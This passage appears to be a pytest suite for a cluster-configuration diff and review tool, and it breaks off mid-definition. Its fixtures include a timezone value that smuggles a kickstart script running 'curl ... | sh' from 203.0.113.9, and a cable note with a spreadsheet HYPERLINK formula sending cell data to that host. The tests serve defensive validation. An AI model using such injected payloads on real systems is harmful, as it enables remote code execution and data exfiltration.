"""`clusterforge diff BASE HEAD`: the review of a pull request, from two git revisions.

A scratch git repository (in a temporary directory) holds this checkout's `cluster/` as its
base commit, and one commit per change a reviewer must see, each made on top of the base:
a new rack, two re-patched cables, a moved server, an OFED bump for the canary ring, a
renumbered address, a firmware baseline bump, an SM priority change, a comment-only edit, a
YAML error, a failing check, a value that would inject a kickstart script and a cable note
written to run in a reviewer's browser and spreadsheet. Each is diffed against the base
through the library, and some through the CLI (also in a shallow clone).
"""

from __future__ import annotations

import csv
import difflib
import io
import json
import random
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from clusterforge.cli import main
from common.errors import SourceError
from compiler import diff, gitsource, load, pipeline
from compiler.diff import DiffReport, RiskKind, Side
from draw import review
from tests.conftest import GIT_ENV, REPO, require_tool

OFED = "24.04-0.6.6.0"
RENUMBERED = ("gpu002", "mgmt", "10.60.2.100")

Data = dict[str, Any]


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", *args], cwd=cwd, env=GIT_ENV, check=True, capture_output=True, text=True
    )
    return done.stdout.rstrip("\n")


def _load(path: Path) -> Data:
    data: Data = YAML(typ="safe").load(path.read_text())
    return data


def _save(path: Path, data: Data) -> None:
    # JSON is YAML 1.2, and it keeps "0x..." GUIDs and versions the strings they are.
    path.write_text(json.dumps(data, indent=1) + "\n")


def _node(cluster: Path, name: str) -> tuple[Path, Data, Data]:
    """(rack file, rack data, the node's entry in it) of node `name`."""
    for path in sorted((cluster / "racks").glob("*.yaml")):
        rack = _load(path)
        for node in rack.get("nodes") or ():
            if node["name"] == name:
                return path, rack, node
    raise AssertionError(f"no node {name!r} in {cluster}")


def _edit_node(cluster: Path, name: str, change: Callable[[Data], None]) -> None:
    path, rack, node = _node(cluster, name)
    change(node)
    _save(path, rack)


def _edit(cluster: Path, section: str, change: Callable[[Data], None]) -> None:
    data = _load(cluster / f"{section}.yaml")
    change(data)
    _save(cluster / f"{section}.yaml", data)


# --- the changes, each applied to the base's cluster/ ---------------------------------------

# The next GPU rack (ids below 100; a leaf's spine ports follow its rack id, so no gaps).
NEW_ID = 1 + max(
    rack["id"]
    for rack in (YAML(typ="safe").load(p.read_text()) for p in (REPO / "cluster/racks").glob("*"))
    if rack["id"] < 100
)
NEW_RACK = f"r{NEW_ID:02d}"
NEW_NODES = ("gpu901", "gpu902", "gpu903", "gpu904")


def add_rack(cluster: Path) -> None:
    """A copy of the last GPU rack with fresh names, position, serials, MACs and GUIDs."""
    racks = [_load(p) for p in sorted((cluster / "racks").glob("r*.yaml"))]
    model = max(racks, key=lambda r: int(r["id"]))
    rack = {**model, "name": NEW_RACK, "id": NEW_ID, "row": "C", "col": 1}
    tag = 0

    def mac() -> str:
        nonlocal tag
        tag += 1
        return f"02:cf:00:00:{tag // 256:02x}:{tag % 256:02x}"

    def guid() -> str:
        nonlocal tag
        tag += 1
        return f"0x02cf000000{tag:06x}"

    role_code = {"leaf": "leaf", "management": "mgmt", "storage": "stor"}
    rack["switches"] = [
        {
            **sw,
            "name": f"{role_code[sw['role']]}{NEW_ID:02d}",
            "serial": f"MT{NEW_ID:02d}TEST{i:02d}X",
            "mac": mac(),
            **({"guid": guid()} if "guid" in sw else {}),
        }
        for i, sw in enumerate(model["switches"])
    ]
    nodes = [n for n in model["nodes"] if n["role"] == "gpu"]
    rack["nodes"] = [
        {
            **n,
            "name": name,
            "serial": f"S{NEW_ID:02d}TEST{i:04d}",
            "mac": {port: mac() for port in n["mac"]},
            **({"guid": guid()} if "guid" in n else {}),
        }
        for i, (n, name) in enumerate(zip(nodes, NEW_NODES, strict=False))
    ]
    assert len(rack["nodes"]) == len(NEW_NODES), "the model rack has too few GPU nodes"
    _save(cluster / "racks" / f"{NEW_RACK}.yaml", rack)


def repatch(cluster: Path) -> None:
    """Swap the InfiniBand links of two service hosts: two cables change their far ends."""
    path, rack, _ = _node(cluster, "sm01")
    by_name = {n["name"]: n for n in rack["nodes"]}
    sm, login = by_name["sm01"], by_name["login01"]
    sm["links"], login["links"] = login["links"], sm["links"]
    _save(path, rack)


def move_spare(cluster: Path) -> None:
    """A spare server moved up 8 U in its rack: same ports, new label locations."""
    _edit_node(cluster, "gpu125", lambda node: node.update(u=node["u"] + 8))


def canary_ofed(cluster: Path) -> None:
    """OFED is fleet-wide; a ring's bump is a pin, with its reason, on every canary node."""
    rings = _load(cluster / "firmware.yaml")["rings"]
    for name in rings[0]["nodes"]:
        _edit_node(
            cluster,
            name,
            lambda node: node.update(
                pins={"ofed": {"version": OFED, "reason": "canary of the OFED 24.04 rollout"}}
            ),
        )


def renumber(cluster: Path) -> None:
    host, network, address = RENUMBERED
    _edit_node(cluster, host, lambda node: node.update(addresses={network: address}))


def bios_bump(cluster: Path) -> None:
    _edit(cluster, "firmware", lambda f: f["baselines"]["hgx-a100"].update(bios="9.9"))


def sm_priority(cluster: Path) -> None:
    def change(fabric: Data) -> None:
        fabric["subnet_managers"][0]["priority"] -= 2

    _edit(cluster, "fabric", change)


def comment_only(cluster: Path) -> None:
    path = cluster / "site.yaml"
    path.write_text("# reviewed: nothing changes\n" + path.read_text())


def broken_yaml(cluster: Path) -> None:
    with (cluster / "racks" / "r03.yaml").open("a") as f:
        f.write("notes: [unclosed\n")


def reinstall(cluster: Path) -> None:
    """Two installed hosts marked for reinstall: their menus default to the install."""
    for name in ("gpu001", "mon01"):
        _edit_node(cluster, name, lambda node: node.update(reinstall=True))


def duplicate_serial(cluster: Path) -> None:
    _, _, first = _node(cluster, "gpu001")
    _edit_node(cluster, "gpu002", lambda node: node.update(serial=first["serial"]))


BOARD = ("gpu003", "S420GPNEWBOARD1", "3c:ec:ef:00:00:01", "3c:ec:ef:00:00:02")
NEW_HCA = "0x0c42a10300ffff01"


def replace_board(cluster: Path) -> None:
    """A node's board swapped (new serial, eno1 and BMC MACs) and its HCA too (new GUID)."""
    host, serial, eno1, bmc = BOARD

    def change(node: Data) -> None:
        node.update(serial=serial, guid=NEW_HCA)
        node["mac"].update(eno1=eno1, bmc=bmc)

    _edit_node(cluster, host, change)


SCANNED = {"spine01": "0x1070fd0300aaaa01", "spine02": "0x1070fd0300aaaa02"}


def fabric_scan(cluster: Path) -> None:
    """A fabric scan imported: two spines' GUIDs differ from what cluster/ had."""
    path = cluster / "racks" / "n01.yaml"
    rack = _load(path)
    for sw in rack["switches"]:
        if sw["name"] in SCANNED:
            sw["guid"] = SCANNED[sw["name"]]
    _save(path, rack)


def to_spare(cluster: Path) -> None:
    _edit_node(cluster, "gpu124", lambda node: node.update(role="spare"))


def rename_rack(cluster: Path) -> None:
    """Every node of r02 renamed in place (gpu006 -> gpx006): same boxes, new names."""
    path = cluster / "racks" / "r02.yaml"
    rack = _load(path)
    for node in rack["nodes"]:
        node["name"] = node["name"].replace("gpu", "gpx")
    _save(path, rack)


ROLLED_OFED = "24.04-0.6.6.0"


def ofed_rollout(cluster: Path) -> None:
    """OFED bumped fleet-wide with a window in which the old version is not drift yet."""

    def change(fw: Data) -> None:
        was = fw["software"]["ofed"]
        fw["software"]["ofed"] = ROLLED_OFED
        fw["rollouts"] = [{"rings": ["main"], "previous": {"ofed": was}, "until": "2027-01-31"}]

    _edit(cluster, "firmware", change)


def import_macs(cluster: Path) -> None:
    """MACs read from eight servers' BMCs imported: an identity change only."""
    for i in range(1, 9):
        _edit_node(
            cluster,
            f"gpu{i:03d}",
            lambda node, i=i: node["mac"].update(eno1=f"3c:ec:ef:10:00:{i:02x}"),
        )


def _override(cluster: Path, *cables: Data) -> None:
    _edit(cluster, "fabric", lambda fabric: fabric.update(cables=list(cables)))


def move_leaf_port(cluster: Path) -> None:
    """A bad leaf port: the server's cable moves to a free port of the same leaf."""
    _override(cluster, {"device": "leaf03", "port": 3, "use_port": 33, "note": "port 3 bad"})


def move_spine_port(cluster: Path) -> None:
    """A bad spine port, named on the spine side: the leaf's uplink moves to a free port."""
    _override(cluster, {"device": "spine01", "port": 3, "use_port": 40, "note": "port 3 bad"})


def move_switch_port(cluster: Path) -> None:
    """A bad storage switch port: the server's storage cable moves to a free port of it."""
    _override(cluster, {"device": "stor01", "port": 3, "use_port": 30, "note": "port 3 bad"})


def remove_rack(cluster: Path) -> None:
    (cluster / "racks" / "r25.yaml").unlink()


def timezone_injection(cluster: Path) -> None:
    # A free-text value that would write a root script into every kickstart.
    hostile = "Etc/UTC\n%pre --interpreter=/bin/sh\ncurl -s http://203.0.113.9/x | sh\n%end\n#"
    _edit(cluster, "site", lambda site: site.update(timezone=hostile))


# A cable note written to reach a reviewer's browser and spreadsheet.
HOSTILE_NOTE = (
    '=HYPERLINK("http://203.0.113.9/?"&A1) ![x](https://203.0.113.9/t.png) '
    "[click](https://203.0.113.9/) @admin <img src=x> `tick` | pipe"
)


def hostile_note(cluster: Path) -> None:
    _edit(
        cluster,
        "fabric",
        lambda fabric: fabric.update(
            cables=[{"device": "leaf01", "port": 1, "note": HOSTILE_NOTE}]
        ),
    )


CHANGES: dict[str, Callable[[Path], None]] = {
    "add-rack": add_rack,
    "repatch": repatch,
    "move-spare": move_spare,
    "canary-ofed": canary_ofed,
    "renumber": renumber,
    "bios-bump": bios_bump,
    "sm-priority": sm_priority,
    "comment-only": comment_only,
    "broken-yaml": broken_yaml,
    "duplicate-serial": duplicate_serial,
    "reinstall": reinstall,
    "replace-board": replace_board,
    "fabric-scan": fabric_scan,
    "to-spare": to_spare,
    "rename-rack": rename_rack,
    "ofed-rollout": ofed_rollout,
    "import-macs": import_macs,
    "remove-rack": remove_rack,
    "move-leaf-port": move_leaf_port,
    "move-spine-port": move_spine_port,
    "move-switch-port": move_switch_port,
    "timezone-injection": timezone_injection,
    "hostile-note": hostile_note,
}


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A git repository: `base` (this checkout's cluster/), and one tag per change on it."""
    root = tmp_path_factory.mktemp("scratch")
    shutil.copytree(REPO / "cluster", root / "cluster")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "cluster")
    git(root, "commit", "-q", "-m", "base")
    git(root, "tag", "base")
    for name, change in CHANGES.items():
        git(root, "checkout", "-q", "--detach", "base")
        change(root / "cluster")
        git(root, "add", "-A", "cluster")
        git(root, "commit", "-q", "-m", name)
        git(root, "tag", name)
    git(root, "checkout", "-q", "main")
    assert git(root, "status", "--porcelain") == ""
    return root


@pytest.fixture(scope="module")
def sides(scratch: Path) -> dict[str, Side]:
    """Every tag compiled once: the library tests compare these."""
    compiled = {tag: gitsource.compile_revision(scratch, tag) for tag in ["base", *CHANGES]}
    assert compiled["base"].compiled is not None, "\n".join(map(str, compiled["base"].errors))
    return compiled


def compare(sides: dict[str, Side], head: str, **kwargs: Any) -> DiffReport:
    return diff.diff(sides["base"], sides[head], **kwargs)


def kinds(report: DiffReport) -> list[RiskKind]:
    return [r.kind for r in report.risks]


# --- what each change reports ---------------------------------------------------------------


def test_an_unchanged_revision_reports_no_changes(sides: dict[str, Side]) -> None:
    for report in (compare(sides, "base"), compare(sides, "comment-only")):
        assert report.compiles and not report.changed
        assert report.risks == ()
        assert report.nodes == diff.Devices() and report.cables == diff.Cables()
        assert report.addresses == () and report.artifacts == ()
        assert report.touched is not None and report.touched.hosts == 0
        assert "No changes" in review.to_markdown(report)
    assert sides["comment-only"].commit != sides["base"].commit


def test_a_new_rack_adds_nodes_switches_cables_and_renumbers_nothing(
    sides: dict[str, Side],
) -> None:
    report = compare(sides, "add-rack")
    assert [n.name for n in report.nodes.added] == list(NEW_NODES)
    assert {n.place.rack for n in report.nodes.added} == {NEW_RACK}
    assert report.nodes.removed == report.nodes.moved == ()
    assert [s.name for s in report.switches.added] == [
        f"{role}{NEW_ID:02d}" for role in ("leaf", "mgmt", "stor")
    ]
    added = report.cables.added
    assert added and all(c.id.startswith(f"{NEW_RACK.upper()}-") for c in added)
    # Its hosts' ports, cabled to its own switches, and one uplink from its leaf to each spine.
    assert {c.a.rack for c in added} == {NEW_RACK}
    assert {c.b.device for c in added} >= set(NEW_NODES)
    assert report.cables.removed == report.cables.changed == ()
    assert report.labels_to_reprint == ()
    assert report.routes == () and report.risks == ()
    # Its new addresses are listed, none of an existing device changed.
    new_devices = set(NEW_NODES) | {s.name for s in report.switches.added}
    assert report.addresses and {a.device for a in report.addresses} == new_devices
    assert all(a.old is None and a.new for a in report.addresses)
    assert {a.network for a in report.addresses} >= {"mgmt", "bmc", "storage", "ipoib"}
    assert report.renumbered_nothing
    assert report.label_commands == (f"clusterforge labels --rack {NEW_RACK}",)
    markdown = review.to_markdown(report)
    assert "No existing address or LID renumbered." in markdown
    assert "| network | added | removed | changed |" in markdown
    mgmt = sum(a.network == "mgmt" for a in report.addresses)
    assert f"| `mgmt` | {mgmt} | 0 | 0 |" in markdown
    assert markdown.rstrip().endswith(f"clusterforge labels --rack {NEW_RACK}\n```")
    # Lines are added, none removed, except a zone's serial (it follows the content).
    families = {f.family: f for f in report.artifacts}
    # Each new node's contract, and each new Ethernet switch's (the audit reads it): the
    # rack's InfiniBand leaf has none.
    ethernet = {s.name for s in report.switches.added if not s.name.startswith("leaf")}
    assert {f.path for f in families["expected"].files if f.status == "added"} == {
        *(f"expected/hosts/{n}.json" for n in NEW_NODES),
        *(f"expected/switches/{s}.json" for s in ethernet),
    }
    assert families["expected"].lines_removed == 0
    assert all(f.files_removed == 0 for f in report.artifacts)
    assert all(f.lines_added > f.lines_removed for f in report.artifacts)


def test_repatched_cables_are_listed_with_their_labels(sides: dict[str, Side]) -> None:
    report = compare(sides, "repatch")
    changed = {c.id: c for c in report.cables.changed}
    assert len(changed) == 2 and all(c.repatched and c.relabel for c in changed.values())
    ends = {
        cid: {ch.key: (ch.old, ch.new) for ch in c.changes if ch.key == "b.device"}
        for cid, c in changed.items()
    }
    assert sorted(v["b.device"] for v in ends.values()) == [
        ("login01", "sm01"),
        ("sm01", "login01"),
    ]
    assert report.labels_to_reprint == tuple(sorted(changed))
    assert report.label_commands == (f"clusterforge labels --only {','.join(sorted(changed))}",)
    assert report.cables.added == report.cables.removed == ()
    assert report.nodes == diff.Devices() and report.addresses == ()
    assert report.risks == ()
    markdown = review.to_markdown(report)
    for cid in changed:
        assert f"`{cid}`" in markdown  # in the labels to reprint
    assert "cables re-patched | 2" in markdown


def test_a_moved_node_relabels_its_cables_without_re_patching(sides: dict[str, Side]) -> None:
    report = compare(sides, "move-spare")
    [move] = report.nodes.moved
    assert move.name == "gpu125" and move.new == replace(move.old, u=move.old.u + 8)
    ids = tuple(c.id for c in report.cables.changed)
    assert ids and report.labels_to_reprint == ids
    for cable in report.cables.changed:
        assert cable.relabel and not cable.repatched
        assert cable.new.b.device == "gpu125" and cable.new.b.u == move.new.u
    assert report.addresses == () and report.risks == ()


def test_an_ofed_bump_for_the_canary_ring_names_the_ring_and_its_nodes(
    sides: dict[str, Side],
) -> None:
    report = compare(sides, "canary-ofed")
    [ring] = report.firmware.rings
    canary = sides["base"].compiled
    assert canary is not None
    members = tuple(sorted(h.name for h in canary.plan.hosts if h.ring == ring.ring))
    assert ring.ring == canary.cluster.firmware.rings[0].name
    [change] = ring.changes
    assert change.key == "ofed" and change.new == OFED
    assert change.old == canary.cluster.firmware.software["ofed"]
    assert change.hosts == members and ring.hosts == len(members)
    # A pin is not a baseline change, and no other ring is touched.
    assert report.firmware.baselines == report.firmware.software == ()
    # The kickstarts of the ring's hosts say the version they must run: the lines are shown.
    [risk] = report.risks
    assert risk.kind == RiskKind.KICKSTART_CHANGED
    old = canary.cluster.firmware.software["ofed"]
    which = f"{members[0]}.ks and {len(members) - 1} more"
    assert risk.items == (f'{which}: -OFED="{old}"', f'{which}: +OFED="{OFED}"')
    markdown = review.to_markdown(report)
    assert f"| `{ring.ring}` | `ofed` |" in markdown


def test_a_renumbered_address_is_a_risk(sides: dict[str, Side]) -> None:
    host, network, address = RENUMBERED
    report = compare(sides, "renumber")
    [change] = report.addresses
    assert (change.device, change.network) == (host, network)
    assert change.old is not None and change.new == f"{address}/24"
    assert change.old != change.new
    assert kinds(report) == [RiskKind.ADDRESS_RENUMBERED, RiskKind.KICKSTART_CHANGED]
    assert not report.renumbered_nothing
    assert "No existing address or LID renumbered" not in review.to_markdown(report)
    risk, kickstart = report.risks
    assert {i.split(": ", 1)[0] for i in kickstart.items} == {f"{host}.ks"}
    assert any(address in i and i.startswith(f"{host}.ks: +") for i in kickstart.items)
    assert risk.items == (f"{host} {network}: {change.old} → {change.new}",)
    # The node stayed where it was; the artifacts that hold addresses changed.
    assert report.nodes == diff.Devices()
    assert report.touched is not None and report.touched.hosts == 1
    assert "⚠️ **address-renumbered**" in review.to_markdown(report)


def test_a_baseline_bump_reaches_every_ring_and_is_a_large_change(
    sides: dict[str, Side],
) -> None:
    report = compare(sides, "bios-bump")
    [baseline] = report.firmware.baselines
    assert (baseline.model, baseline.key, baseline.new) == ("hgx-a100", "bios", "9.9")
    base = sides["base"].compiled
    assert base is not None
    rings = [r.name for r in base.cluster.firmware.rings]
    assert [r.ring for r in report.firmware.rings] == rings  # rollout order, canary first
    reached = {h for r in report.firmware.rings for c in r.changes for h in c.hosts}
    assert reached == {h.name for h in base.plan.hosts if h.model == "hgx-a100"}
    # A baseline bump is a rollout: it reaches every ring by its nature, so it is not large.
    # It changes the kickstarts' pinned versions, which is shown, as every kickstart change.
    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]
    assert report.touched is not None and report.touched.host_kinds == {"versions": len(reached)}
    # Nor is a new rack, however small the limit: it adds and changes nothing there.
    assert RiskKind.LARGE_CHANGE not in kinds(compare(sides, "add-rack", share_limit=0.01))
    # A moved server relabels its cables: a change no kind of routine work makes.
    assert RiskKind.LARGE_CHANGE in kinds(compare(sides, "move-spare", share_limit=0.001))


def test_a_subnet_manager_priority_change_is_a_risk(sides: dict[str, Side]) -> None:
    report = compare(sides, "sm-priority")
    [sm] = report.fabric.subnet_managers
    assert isinstance(sm.old, int) and sm.new == sm.old - 2
    assert kinds(report) == [RiskKind.SM_PRIORITY]


def test_a_host_newly_marked_for_reinstall_is_a_risk(sides: dict[str, Side]) -> None:
    report = compare(sides, "reinstall")
    assert kinds(report) == [RiskKind.REINSTALL]
    [risk] = report.risks
    assert risk.items == ("gpu001", "mon01") and "wipes" in risk.message
    assert "⚠️ **reinstall**: 2 existing host(s) marked for reinstall" in review.to_markdown(report)
    [flag] = json.loads(diff.to_json(report))["risks"]
    assert flag["kind"] == "reinstall" and flag["items"] == ["gpu001", "mon01"]
    # Only their menus change (and the serving host's map of them).
    [family] = [f for f in report.artifacts if f.family == "pxe"]
    assert family.files_changed == 2
    # Already marked on both sides, or unmarked: no flag.
    assert diff.diff(sides["reinstall"], sides["reinstall"]).risks == ()
    assert RiskKind.REINSTALL not in kinds(diff.diff(sides["reinstall"], sides["base"]))


def test_a_head_that_does_not_compile_lists_its_located_errors(sides: dict[str, Side]) -> None:
    for tag, rule, where in (
        ("broken-yaml", "yaml-syntax", "cluster/racks/r03.yaml:"),
        ("duplicate-serial", "duplicate-serial", "cluster/racks/r01.yaml:"),
        ("timezone-injection", "control-character", "cluster/site.yaml:"),
    ):
        report = compare(sides, tag)
        assert not report.compiles and report.base.compiles
        assert report.head.errors and all(str(d).startswith(where) for d in report.head.errors)
        assert {d.rule for d in report.head.errors} == {rule}
        assert kinds(report) == [RiskKind.HEAD_FAILS]
        assert report.risks[0].items == tuple(str(d) for d in report.head.errors)
        assert report.touched is None and report.artifacts == ()
        markdown = review.to_markdown(report)
        assert "⛔ **HEAD does not compile**" in markdown
        assert str(report.head.errors[0]) in markdown
    # Broken on both sides: no comparison, and HEAD did not break what BASE compiled.
    both = diff.diff(sides["broken-yaml"], sides["broken-yaml"])
    assert not both.compiles and both.risks == ()


def test_a_replaced_board_and_hca_show_old_and_new_identity(sides: dict[str, Side]) -> None:
    host, serial, eno1, bmc = BOARD
    report = compare(sides, "replace-board")
    base = sides["base"].compiled
    assert base is not None
    [before] = [h for h in base.plan.hosts if h.name == host]
    macs = {i.name: i.mac for i in (*before.interfaces, before.bmc)}
    [port] = before.ib_ports
    changes = {(c.device, c.key): (c.old, c.new) for c in report.identity.devices}
    assert changes == {
        (host, "serial"): (before.serial, serial),
        (host, "mac eno1"): (macs["eno1"], eno1),
        (host, "mac bmc"): (macs["bmc"], bmc),
        (host, f"guid {port.device}/{port.port}"): (port.guid, NEW_HCA),
    }
    # The LID stays with the port, whatever its GUID.
    assert report.identity.lids == () and report.identity.lids_kept > 0
    assert report.identity.root_guids == diff.GuidSet()
    assert RiskKind.LARGE_CHANGE not in kinds(report)
    markdown = review.to_markdown(report)
    assert f"| `{host}` | `serial` | `{before.serial}` | `{serial}` |" in markdown
    assert f"| `{host}` | `mac eno1` | `{macs['eno1']}` | `{eno1}` |" in markdown
    assert f"LIDs: {report.identity.lids_kept} kept, 0 changed." in markdown
    data = json.loads(diff.to_json(report))
    assert {"device": host, "key": "serial", "old": before.serial, "new": serial} in data[
        "identity"
    ]["devices"]


def test_changed_spine_guids_are_a_root_guids_risk(sides: dict[str, Side]) -> None:
    report = compare(sides, "fabric-scan")
    base = sides["base"].compiled
    assert base is not None
    old = {s.name: s.guid for s in base.plan.switches}
    assert report.identity.root_guids == diff.GuidSet(
        tuple(sorted(old[n] or "" for n in SCANNED)), tuple(sorted(SCANNED.values()))
    )
    assert {(c.device, c.key, c.new) for c in report.identity.devices} == {
        (n, "guid", g) for n, g in SCANNED.items()
    }
    assert RiskKind.ROOT_GUIDS in kinds(report)
    assert "⚠️ **root-guids-changed**" in review.to_markdown(report)
    data = json.loads(diff.to_json(report))
    assert data["identity"]["root_guids"]["added"] == sorted(SCANNED.values())


def test_a_role_change_is_a_risk(sides: dict[str, Side]) -> None:
    report = compare(sides, "to-spare")
    assert report.identity.roles == (diff.RoleChange("gpu124", "gpu", "spare"),)
    assert RiskKind.ROLE_CHANGED in kinds(report)
    assert "gpu124: gpu → spare" in review.to_markdown(report)


def test_renamed_nodes_read_as_renames_and_no_share_is_over_100_percent(
    sides: dict[str, Side],
) -> None:
    report = compare(sides, "rename-rack")
    base = sides["base"].compiled
    assert base is not None
    names = sorted(h.name for h in base.plan.hosts if h.rack == "r02")
    assert [(r.old, r.new) for r in report.nodes.renamed] == [
        (n, n.replace("gpu", "gpx")) for n in names
    ]
    assert report.nodes.added == report.nodes.removed == ()
    # Their addresses stay: the same boxes under new names.
    assert not [a for a in report.addresses if a.old and a.new and a.old != a.new]
    assert not [a for a in report.addresses if bool(a.old) != bool(a.new)]
    t = report.touched
    assert t is not None and t.hosts == len(names) and t.hosts_total == len(base.plan.hosts)
    assert t.host_kinds == {"renamed": len(names)}
    for risk in compare(sides, "rename-rack", share_limit=0.0).risks:
        for item in risk.items:
            assert "%" not in item or float(item.split("(")[1].split("%")[0]) <= 100
    # Their cables go where they went: relabelled, since a label names its ends, not re-patched.
    assert report.cables.added == report.cables.removed == ()
    assert report.cables.changed and all(
        c.relabel and not c.repatched for c in report.cables.changed
    )
    assert {c.new.b.device for c in report.cables.changed} >= {
        n.replace("gpu", "gpx") for n in names
    }
    assert f"| renamed | `{names[0]} → {names[0].replace('gpu', 'gpx')}` |" in review.to_markdown(
        report
    )


def test_an_ofed_rollout_shows_its_window_and_is_not_large(sides: dict[str, Side]) -> None:
    report = compare(sides, "ofed-rollout")
    base = sides["base"].compiled
    assert base is not None
    was = base.cluster.firmware.software["ofed"]
    assert report.rollouts == (diff.RolloutChange("added", ("main",), {"ofed": was}, "2027-01-31"),)
    # Not large; the kickstarts' pinned OFED changes, which is shown as every kickstart change.
    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]
    markdown = review.to_markdown(report)
    assert f"| `opened` | `main` | `ofed {was}` | `2027-01-31` |" in markdown


def test_imported_macs_are_identity_changes_not_a_large_change(sides: dict[str, Side]) -> None:
    report = compare(sides, "import-macs")
    assert len(report.identity.devices) == 8
    assert {c.key for c in report.identity.devices} == {"mac eno1"}
    assert report.touched is not None and report.touched.host_kinds == {"identity": 8}
    # Not large; the kickstarts name the NIC by its MAC, a kickstart change, shown.
    assert kinds(report) == [RiskKind.KICKSTART_CHANGED]


def test_the_parts_list_changes_as_parts_to_order_and_return(sides: dict[str, Side]) -> None:
    added, removed = compare(sides, "add-rack"), compare(sides, "remove-rack")
    base, head = sides["base"].compiled, sides["add-rack"].compiled
    assert base is not None and head is not None
    extra = len(head.plan.cables) - len(base.plan.cables)
    # Split cables are bought once per assembly, so the net parts are at most the new
    # cables; a new rack's leg can make a split cable's product longer (the shorter one
    # goes back), so some lines may be returns.
    assert 0 < sum(p.new - p.old for p in added.parts) <= extra
    assert removed.parts and sum(p.new - p.old for p in removed.parts) < 0
    ordered = sum(max(0, p.new - p.old) for p in added.parts)
    returned = sum(max(0, p.old - p.new) for p in added.parts)
    markdown = review.to_markdown(added)
    assert f"Parts: {ordered} to order, {returned} to return" in markdown
    assert f"| parts to order | {ordered} |" in markdown
    assert "parts to return" in review.to_markdown(removed)
    # Removing a rack takes its devices' addresses away: the reviewer is told.
    assert RiskKind.ADDRESS_REMOVED in kinds(removed)


def test_a_device_that_stays_but_loses_its_address_is_a_risk(sides: dict[str, Side]) -> None:
    base = sides["base"].compiled
    assert base is not None
    [spine] = [s for s in base.plan.switches if s.name == "spine01"]
    plan = replace(
        base.plan,
        switches=tuple(
            s._replace(address=None) if s.name == spine.name else s for s in base.plan.switches
        ),
    )
    head = replace(sides["base"], compiled=replace(base, plan=plan))
    report = diff.diff(sides["base"], head)
    assert [(a.device, a.new) for a in report.addresses] == [(spine.name, None)]
    assert RiskKind.ADDRESS_LOST in kinds(report)
    assert RiskKind.ADDRESS_REMOVED not in kinds(report)


@pytest.mark.parametrize(
    ("tag", "cable", "key", "old", "new"),
    [
        ("move-leaf-port", "R03-IB03", "a.port", "3", "33"),
        ("move-spine-port", "R03-IB21", "b.port", "3", "40"),
        # An Ethernet switch's port: the cable, and the switch's own configuration.
        ("move-switch-port", "R01-ST03", "a.port", "3", "30"),
    ],
)
def test_a_moved_port_re_patches_one_cable_which_keeps_its_id(
    sides: dict[str, Side], tag: str, cable: str, key: str, old: str, new: str
) -> None:
    report = compare(sides, tag)
    assert report.cables.added == report.cables.removed == ()
    [moved] = report.cables.changed
    assert moved.id == cable and moved.repatched and moved.relabel
    assert {c.key: (c.old, c.new) for c in moved.changes if c.key.endswith(".port")} == {
        key: (old, new)
    }
    # Only its own label is reprinted: every other cable keeps its ID and its label.
    assert report.labels_to_reprint == (cable,)
    assert report.label_commands == (f"clusterforge labels --only {cable}",)
    assert "cables re-patched | 1" in review.to_markdown(report)
    if tag == "move-switch-port":
        files = {f.path for a in report.artifacts for f in a.files}
        assert "switches/stor01/etc/network/interfaces" in files
        assert not any(p.startswith("switches/") and "stor01" not in p for p in files)


def test_an_override_of_a_port_no_rule_uses_names_the_ports_that_are(tmp_path: Path) -> None:
    shutil.copytree(REPO / "cluster", tmp_path / "cluster")
    _override(tmp_path / "cluster", {"device": "leaf03", "port": 7, "use_port": 33})
    with pytest.raises(SourceError) as caught:
        pipeline.compile_source(load.load(tmp_path / "cluster"))
    [problem] = caught.value.diagnostics
    assert problem.rule == "unknown-reference"
    assert str(problem).startswith("cluster/fabric.yaml:")
    assert "'leaf03' has cables on ports 1-5, 21-27" in problem.message


# --- the generic OpenSM rules: read from whatever generated/opensm/ holds -------------------
# The files are written here in the formats of FORMATS.md §1 (what the OpenSM target writes),
# at its paths, over whatever the compile produced, on both sides.


def _with_files(side: Side, files: dict[str, str]) -> Side:
    assert side.compiled is not None
    extra = {path: text.encode() for path, text in files.items()}
    return replace(side, compiled=replace(side.compiled, files={**side.compiled.files, **extra}))


def _guid2lid(records: dict[str, int]) -> str:
    # OpenSM reads a record's value up to the next empty line.
    return "".join(f"{guid} 0x{lid:04x} 0x{lid:04x}\n\n" for guid, lid in records.items())


def _conf(priority: int, engine: str) -> str:
    return (
        "# OpenSM configuration of sm01\nguid 0x0c42a1030041ea5d\n"
        f"sm_priority {priority}\nrouting_engine {engine}   # fat tree\nlmc 0\n"
    )


def test_a_changed_lid_routing_engine_or_sm_priority_in_opensm_files_is_a_risk(
    sides: dict[str, Side],
) -> None:
    spine, leaf, new = "0x1070fd0300563c18", "0xb8cef603007ad8a3", "0x0c42a10300000099"
    base = _with_files(
        sides["base"],
        {
            "opensm/guid2lid": _guid2lid({spine: 1, leaf: 2}),
            "opensm/sm01/opensm.conf": _conf(14, "ftree"),
            "opensm/ib-node-name-map": f'{spine} "spine01"\n',
        },
    )
    assert not diff.diff(base, base).changed
    head = _with_files(
        sides["base"],
        {
            # The leaf renumbered; a GUID new on HEAD takes a LID of its own, renumbering none.
            "opensm/guid2lid": _guid2lid({spine: 1, leaf: 9, new: 3}),
            "opensm/sm01/opensm.conf": _conf(12, "ftree,minhop"),
            "opensm/ib-node-name-map": f'{spine} "spine01-renamed"\n',
        },
    )
    report = diff.diff(base, head)
    [lid] = report.fabric.lids
    assert (lid.file, lid.guid, lid.old, lid.new) == (
        "opensm/guid2lid",
        leaf,
        "0x0002 0x0002",
        "0x0009 0x0009",
    )
    options = {(o.key, o.old, o.new) for o in report.fabric.opensm_options}
    assert options == {("routing_engine", "ftree", "ftree,minhop"), ("sm_priority", "14", "12")}
    assert kinds(report) == [
        RiskKind.LID_RENUMBERED,
        RiskKind.ROUTING_ENGINE,
        RiskKind.SM_PRIORITY,
    ]
    assert [f.family for f in report.artifacts] == ["opensm"]
    assert report.touched is not None and report.touched.hosts == 0


# --- renderings -----------------------------------------------------------------------------

JSON_KEYS = {
    "schema",
    "compiles",
    "changed",
    "base",
    "head",
    "risks",
    "nodes",
    "switches",
